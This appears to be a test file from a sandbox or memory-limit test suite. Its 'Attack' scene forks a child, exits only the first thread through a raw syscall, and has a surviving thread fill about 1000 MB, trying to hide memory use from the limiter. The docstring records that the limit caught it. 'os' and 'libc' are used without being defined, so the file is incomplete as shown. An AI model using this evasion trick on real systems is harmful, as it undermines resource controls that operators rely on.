"""Success: a process whose first thread has ended seems to hold no memory.

Outcome: failed: more memory than the limit
"""

import mmap, threading, time

EXIT = 93 if os.uname().machine == "aarch64" else 60


class Attack(Scene):
    def construct(self):
        if os.fork() == 0:
            threading.Thread(target=self.hoard).start()
            libc.syscall(EXIT, 0)  # ends this thread only
        time.sleep(60)

    def hoard(self):
        time.sleep(0.2)
        hoard = mmap.mmap(-1, 1000 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
        for place in range(0, len(hoard), 4096):
            hoard[place] = 1
        time.sleep(60)
